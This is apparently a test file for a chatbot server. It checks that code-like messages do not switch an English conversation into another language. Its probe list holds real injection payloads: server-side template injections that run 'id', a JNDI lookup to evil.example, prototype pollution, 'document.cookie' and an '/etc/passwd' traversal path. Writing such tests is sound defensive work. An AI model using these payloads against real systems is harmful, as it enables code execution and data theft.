import { ChatSession } from '../../helpers/chat-client.js';
import { startInProcess, type InProcessMesa } from '../../helpers/in-process-mesa.js';

let server: InProcessMesa;

beforeAll(async () => {
  server = await startInProcess();
});
afterAll(() => server.stop());

// Issue 17, item 8: template-injection probes and other code switched a live English conversation to
// another language, although they hold no word of any language.
describe('issue 17: code-like text does not switch the conversation\'s language', () => {
  it.each([
    '{{constructor.constructor}}',
    '{{constructor.constructor("return process")()}}',
    '${jndi:ldap://evil.example/a}',
    '<%= system("id") %>',
    '__proto__[isAdmin]=true',
    'document.cookie',
    '../../etc/passwd',
    '{{ config.__class__.__init__.__globals__["os"].popen("id").read() }}',
    '{{ lipsum.__globals__.os.popen("id").read() }}',
    'constructor constructor constructor constructor',
  ])('%s: the bot goes on in English and does not fail', async (probe) => {
    const chat = await ChatSession.create(server.url, { locale: 'en' });
    expect((await chat.ask('hello')).locale).toBe('en');
    const reply = await chat.ask(probe);
    expect(reply.locale).toBe('en');
    expect(reply.text).not.toMatch(/went wrong/);
    expect((await chat.ask('thanks')).locale).toBe('en');
  });

  it('a real message in Spanish still switches it', async () => {
    const chat = await ChatSession.create(server.url, { locale: 'en' });
    expect((await chat.ask('hello')).locale).toBe('en');
    expect((await chat.ask('no puedo entrar a mi correo')).locale).toBe('es');
  });
});
